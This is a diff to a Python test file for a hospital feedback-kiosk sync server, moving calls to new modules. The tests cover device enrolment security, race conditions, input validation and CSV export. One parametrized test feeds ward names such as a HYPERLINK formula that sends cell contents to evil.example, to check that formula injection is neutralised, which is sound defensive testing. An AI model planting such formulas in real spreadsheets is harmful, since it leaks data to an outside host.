@@ -6,19 +6,19 @@ from __future__ import annotations
 import csv
 import io
 import json
-import subprocess
-import sys
 import threading
 import uuid
-from pathlib import Path
 
 import pytest
 import sqlalchemy as sa
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from sync.server import db
+from sync.server import devices, schema
+from sync.server.ingest import ingest
+from tests.server import queries
 from tests.server.conftest import ADMIN, WARD_7, auth, batch, enrol, response
+from tests.server.databases import assert_brought_up_once, start_together
 
 
 def _push(client, token, *items):
@@ -51,7 +51,7 @@ def test_a_device_cannot_report_for_another_place(client, engine, device_token, 
     (rejection,) = body["rejected"]
     assert rejection["id"] == theirs["id"]
     assert "Ward 7" in rejection["reason"] and "kiosk.toml" in rejection["reason"]
-    assert db.response_ids(engine) == [mine["id"]]
+    assert queries.response_ids(engine) == [mine["id"]]
     csv_rows = client.get(
         "/api/v1/reports/fft", params={"period": "2026-11", "format": "csv"}, headers=auth(ADMIN)
     ).text.splitlines()
@@ -63,29 +63,29 @@ def test_a_device_cannot_report_for_another_place(client, engine, device_token, 
 
 def test_another_orgs_key_cannot_take_over_an_enrolled_device(client, engine):
     device_id = str(uuid.uuid4())
-    victim_key = db.create_key(engine, WARD_7)
+    victim_key = devices.create_key(engine, WARD_7)
     reply = client.post("/api/v1/devices/enroll", json=_enrol_request(victim_key, device_id))
     victim_token = reply.json()["device_token"]
-    attacker_key = db.create_key(engine, db.Place("RXX", "RXX01", "Ward A"), uses=1)
+    attacker_key = devices.create_key(engine, devices.Place("RXX", "RXX01", "Ward A"), uses=1)
 
     reply = client.post("/api/v1/devices/enroll", json=_enrol_request(attacker_key, device_id))
 
     assert reply.status_code == 409
     assert "already enrolled" in reply.json()["detail"] and "revoke" in reply.json()["detail"]
     assert _push(client, victim_token, response()).json()["accepted"]
-    (device,) = db.list_devices(engine)
+    (device,) = devices.list_devices(engine)
     assert (device["device_id"], device["org_code"], device["ward_name"]) == (
         device_id,
         "RWD",
         "Ward 7",
     )
     # The refused attempt did not use up the single-use key.
-    assert [k["uses_left"] for k in db.list_keys(engine) if k["org_code"] == "RXX"] == [1]
+    assert [k["uses_left"] for k in devices.list_keys(engine) if k["org_code"] == "RXX"] == [1]
 
 
 def test_someone_elses_token_does_not_open_the_door_either(client, engine):
     device_id = str(uuid.uuid4())
-    key = db.create_key(engine, WARD_7)
+    key = devices.create_key(engine, WARD_7)
     client.post("/api/v1/devices/enroll", json=_enrol_request(key, device_id))
     other_token = enrol(client, engine)
     reply = client.post(
@@ -96,9 +96,9 @@ def test_someone_elses_token_does_not_open_the_door_either(client, engine):
 
 def test_a_device_re_enrols_with_its_own_token(client, engine):
     device_id = str(uuid.uuid4())
-    key = db.create_key(engine, WARD_7)
+    key = devices.create_key(engine, WARD_7)
     old = client.post("/api/v1/devices/enroll", json=_enrol_request(key, device_id)).json()
-    moved = db.create_key(engine, db.Place("RWD", "RWDLA", "Ward 8"))
+    moved = devices.create_key(engine, devices.Place("RWD", "RWDLA", "Ward 8"))
     reply = client.post(
         "/api/v1/devices/enroll",
         json=_enrol_request(moved, device_id),
@@ -112,25 +112,25 @@ def test_a_device_re_enrols_with_its_own_token(client, engine):
 
 def test_a_revoked_device_can_be_enrolled_again(client, engine):
     device_id = str(uuid.uuid4())
-    key = db.create_key(engine, WARD_7)
+    key = devices.create_key(engine, WARD_7)
     client.post("/api/v1/devices/enroll", json=_enrol_request(key, device_id))
-    assert db.revoke_device(engine, device_id)
+    assert devices.revoke_device(engine, device_id)
     reply = client.post("/api/v1/devices/enroll", json=_enrol_request(key, device_id))
     assert reply.status_code == 201
     assert _push(client, reply.json()["device_token"], response()).json()["accepted"]
 
 
 def test_a_single_use_key_raced_by_twenty_enrolments_enrols_one_device(engine):
-    key = db.create_key(engine, WARD_7, uses=1)
+    key = devices.create_key(engine, WARD_7, uses=1)
     start = threading.Barrier(20)
     outcomes: list[str] = []
 
     def attempt() -> None:
         start.wait()
         try:
-            db.enroll(engine, key, str(uuid.uuid4()), "tablet", "0.1.0")
+            devices.enroll(engine, key, str(uuid.uuid4()), "tablet", "0.1.0")
             outcomes.append("enrolled")
-        except db.EnrollmentRefused:
+        except devices.EnrollmentRefused:
             outcomes.append("refused")
 
     threads = [threading.Thread(target=attempt) for _ in range(20)]
@@ -139,12 +139,12 @@ def test_a_single_use_key_raced_by_twenty_enrolments_enrols_one_device(engine):
     for thread in threads:
         thread.join()
     assert sorted(outcomes) == ["enrolled"] + ["refused"] * 19
-    assert len(db.list_devices(engine)) == 1
-    assert db.list_keys(engine)[0]["uses_left"] == 0
+    assert len(devices.list_devices(engine)) == 1
+    assert devices.list_keys(engine)[0]["uses_left"] == 0
 
 
 def test_one_new_device_id_enrolled_twice_at_once_is_one_device(engine):
-    key = db.create_key(engine, WARD_7)
+    key = devices.create_key(engine, WARD_7)
     device_id = str(uuid.uuid4())
     start = threading.Barrier(8)
     outcomes: list[str] = []
@@ -152,9 +152,9 @@ def test_one_new_device_id_enrolled_twice_at_once_is_one_device(engine):
     def attempt() -> None:
         start.wait()
         try:
-            db.enroll(engine, key, device_id, "tablet", "0.1.0")
+            devices.enroll(engine, key, device_id, "tablet", "0.1.0")
             outcomes.append("enrolled")
-        except db.DeviceTaken:
+        except devices.DeviceTaken:
             outcomes.append("taken")
 
     threads = [threading.Thread(target=attempt) for _ in range(8)]
@@ -163,7 +163,7 @@ def test_one_new_device_id_enrolled_twice_at_once_is_one_device(engine):
     for thread in threads:
         thread.join()
     assert sorted(outcomes) == ["enrolled"] + ["taken"] * 7
-    assert len(db.list_devices(engine)) == 1
+    assert len(devices.list_devices(engine)) == 1
 
 
 # -- no input gets a 5xx -------------------------------------------------------------------
@@ -176,7 +176,7 @@ def test_answers_at_the_ends_of_the_calendar_are_a_422(client, engine, device_to
     reply = _push(client, device_token, response(answered_at=answered_at))
     assert reply.status_code == 422
     assert "clock" in reply.json()["detail"]
-    assert db.count_responses(engine) == 0
+    assert queries.count_responses(engine) == 0
 
 
 @pytest.mark.parametrize(
@@ -196,7 +196,7 @@ def test_a_nul_in_a_comment_is_dropped_and_the_answer_kept(client, engine, devic
     reply = _push(client, device_token, item)
     assert reply.json()["accepted"] == [item["id"]]
     with engine.connect() as conn:
-        row = conn.execute(sa.select(db.responses.c.comment, db.responses.c.rating)).one()
+        row = conn.execute(sa.select(schema.responses.c.comment, schema.responses.c.rating)).one()
     assert (row.comment, row.rating) == ("fine thanks", 2)
     # The kiosk resending the same response is a duplicate, not a conflict.
     assert _push(client, device_token, item).json()["duplicate"] == [item["id"]]
@@ -206,18 +206,18 @@ def test_a_nul_in_a_comment_is_dropped_and_the_answer_kept(client, engine, devic
 def test_a_nul_in_a_name_is_a_422(client, engine, device_token, field):
     reply = _push(client, device_token, response(**{field: "Ward\x007"}))
     assert reply.status_code == 422 and field in reply.json()["detail"]
-    assert db.count_responses(engine) == 0
+    assert queries.count_responses(engine) == 0
 
 
 @pytest.mark.parametrize("field", ["name", "app_version"])
 @pytest.mark.parametrize("text", ["tablet\x00", "tab\nlet", "\x1b[31mred"])
 def test_control_characters_in_a_device_name_are_a_422(client, engine, field, text):
-    key = db.create_key(engine, WARD_7)
+    key = devices.create_key(engine, WARD_7)
     reply = client.post(
         "/api/v1/devices/enroll", json=_enrol_request(key, str(uuid.uuid4()), **{field: text})
     )
     assert reply.status_code == 422 and field in reply.json()["detail"]
-    assert db.list_devices(engine) == []
+    assert devices.list_devices(engine) == []
 
 
 @pytest.mark.parametrize(
@@ -279,7 +279,7 @@ def test_no_field_value_ever_gets_a_5xx(client, device_token, field, value):
     value=_json | _odd_text,
 )
 def test_no_enrolment_value_ever_gets_a_5xx(client, engine, field, value):
-    body = _enrol_request(db.new_secret(), str(uuid.uuid4()))
+    body = _enrol_request(devices.new_secret(), str(uuid.uuid4()))
     body[field] = value
     reply = client.post("/api/v1/devices/enroll", json=body)
     assert reply.status_code < 500, (field, value, reply.text[:300])
@@ -287,41 +287,13 @@ def test_no_enrolment_value_ever_gets_a_5xx(client, engine, field, value):
 
 # -- several servers starting together -------------------------------------------------------
 
-_OPEN = "import sys; from sync.server import db; db.open_database(sys.argv[1]); print('ok')"
-
-
-def _start_together(url: str, processes: int = 4) -> list[subprocess.CompletedProcess[str]]:
-    root = Path(__file__).resolve().parents[2]
-    running = [
-        subprocess.Popen(
-            [sys.executable, "-c", _OPEN, url],
-            cwd=root,
-            stdout=subprocess.PIPE,
-            stderr=subprocess.PIPE,
-            text=True,
-        )
-        for _ in range(processes)
-    ]
-    done = []
-    for proc in running:
-        out, err = proc.communicate(timeout=120)
-        done.append(subprocess.CompletedProcess(proc.args, proc.returncode, out, err))
-    return done
-
 
 @pytest.mark.slow
 @pytest.mark.parametrize("trial", range(5))
-def test_four_servers_start_together_on_a_fresh_database(engine, trial):
-    url = engine.url.render_as_string(hide_password=False)
-    with engine.begin() as conn:
-        db.metadata.drop_all(conn)
-        db.schema_version.drop(conn, checkfirst=True)
-    engine.dispose()
-    for result in _start_together(url):
+def test_four_servers_start_together_on_a_fresh_database(empty_url, trial):
+    for result in start_together(empty_url):
         assert result.returncode == 0, result.stderr[-2000:]
-    with engine.connect() as conn:
-        versions = conn.execute(sa.select(db.schema_version.c.version)).scalars().all()
-    assert versions == [len(db.MIGRATIONS)]
+    assert_brought_up_once(empty_url)
 
 
 # -- spreadsheet formulas never reach a spreadsheet ------------------------------------------
@@ -331,7 +303,7 @@ def test_four_servers_start_together_on_a_fresh_database(engine, trial):
     "ward", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)"]
 )
 def test_a_ward_name_cannot_become_a_formula_in_the_nhs_csv(client, engine, ward):
-    token = enrol(client, engine, db.Place("RWD", "RWDLA", ward))
+    token = enrol(client, engine, devices.Place("RWD", "RWDLA", ward))
     assert _push(client, token, response(ward_name=ward)).json()["accepted"]
     reply = client.get(
         "/api/v1/reports/fft", params={"period": "2026-11", "format": "csv"}, headers=auth(ADMIN)
@@ -349,19 +321,19 @@ def test_a_ward_name_cannot_become_a_formula_in_the_nhs_csv(client, engine, ward
 def test_answered_at_must_be_an_rfc3339_time_not_a_unix_time(client, engine, device_token, when):
     reply = _push(client, device_token, response(answered_at=when))
     assert reply.status_code == 422 and "RFC 3339" in reply.json()["detail"]
-    assert db.count_responses(engine) == 0
+    assert queries.count_responses(engine) == 0
 
 
 def test_a_batch_sends_each_response_once(client, engine, device_token):
     item = response()
     reply = _push(client, device_token, item, dict(item, comment="other"))
     assert reply.status_code == 422 and "only once" in reply.json()["detail"]
-    assert db.count_responses(engine) == 0
+    assert queries.count_responses(engine) == 0
 
 
 @pytest.mark.parametrize("name", ["tab\u0085let", "tablet\u202ereversed", "a\u2066b"])
 def test_invisible_controls_in_a_device_name_are_a_422(client, engine, name):
-    key = db.create_key(engine, WARD_7)
+    key = devices.create_key(engine, WARD_7)
     reply = client.post(
         "/api/v1/devices/enroll", json=_enrol_request(key, str(uuid.uuid4()), name=name)
     )
@@ -384,8 +356,8 @@ def test_an_oversized_chunked_enrolment_is_a_413(client):
 def test_two_batches_of_the_same_ids_crossing_store_each_once(engine):
     # On PostgreSQL two transactions inserting the same rows in opposite orders deadlock;
     # ingest inserts in id order and retries a transaction the database rolled back.
-    key = db.create_key(engine, WARD_7)
-    token, _ = db.enroll(engine, key, str(uuid.uuid4()), "tablet", "1")
+    key = devices.create_key(engine, WARD_7)
+    token, _ = devices.enroll(engine, key, str(uuid.uuid4()), "tablet", "1")
     from sync.protocol import Response
 
     errors: list[BaseException] = []
@@ -393,7 +365,7 @@ def test_two_batches_of_the_same_ids_crossing_store_each_once(engine):
     def push(start: threading.Barrier, order: list[Response]) -> None:
         start.wait()
         try:
-            db.ingest(engine, token, str(uuid.uuid4()), order)
+            ingest(engine, token, str(uuid.uuid4()), order)
         except BaseException as exc:
             errors.append(exc)
 
@@ -409,4 +381,4 @@ def test_two_batches_of_the_same_ids_crossing_store_each_once(engine):
         for thread in threads:
             thread.join()
     assert errors == []
-    assert db.count_responses(engine) == 500
+    assert queries.count_responses(engine) == 500
